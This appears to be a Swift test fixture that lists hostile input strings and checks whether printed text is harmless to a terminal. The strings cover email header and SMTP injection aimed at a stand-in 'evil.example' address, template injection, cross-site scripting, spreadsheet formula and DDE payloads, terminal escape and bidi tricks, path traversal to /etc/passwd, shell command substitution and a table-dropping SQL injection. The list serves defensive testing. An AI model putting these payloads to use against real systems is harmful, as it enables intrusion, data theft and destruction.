/// Texts that mean harm wherever somebody takes them for more than text.
enum Attack {
    static let texts = [
        // Headers, bodies and boundaries of a message; commands of SMTP.
        "Ana\r\nBcc: spy@evil.example", "Ana\nSubject: another", "Ana\r\n\r\nbody of mine",
        "Ana\u{2028}Bcc: spy@evil.example",
        "Ana\r\n--=_0123456789abcdef_1\r\nContent-Type: text/html\r\n\r\n<b>mine</b>", "=?utf-8?Q?=0D=0ABcc:_spy?=",
        "Ana\r\n.\r\nMAIL FROM:<spy@evil.example>\r\n", "Ana\n.\n", "\" <spy@evil.example>", "a,<spy@evil.example>",
        // Templates and pages.
        "{{company.tax_id}}", "{{{company.tax_id}}}", "{{>due.txt}}", "{{=<% %>=}}<% company.tax_id %>",
        "{{#invoices}}",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><a href=javascript:alert(1)>pay</a>",
        "</td></table><h1>mine</h1>", "<!--", "&lt;script&gt;", "javascript:alert(1)",
        "data:text/html,<script>1</script>",
        // Spreadsheets.
        "=HYPERLINK(\"http://evil.example\";\"pay\")", "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1+1",
        "\r=1+1",
        "a;=1+1", "\";=1+1;\"",
        // Terminals.
        "\u{1B}[2J\u{1B}[Hroot#", "\u{1B}]0;mine\u{7}", "\u{9B}31mred", "abc\u{8}\u{8}\u{8}xyz", "\u{202E}fdp.exe",
        "\u{2066}mine\u{2069}",
        "x\nrecordad: all is well", "\u{7F}\u{0B}\u{0C}",
        // Files.
        "../../../etc/passwd", "/etc/passwd", "a/../b", "%00%2e%2e%2f", "$(touch /tmp/mine)",
        "'; DROP TABLE invoice; --",
    ]

    /// Whether the text, as a program printed it, can do nothing to a terminal but begin new lines.
    static func isHarmless(_ text: String) -> Bool {
        text.replacing("\r\n", with: "\n").unicodeScalars.allSatisfy { scalar in
            switch scalar.properties.generalCategory {
            case .control: scalar == "\n"
            case .lineSeparator, .paragraphSeparator: false
            default: !scalar.properties.isBidiControl
            }
        }
    }
}
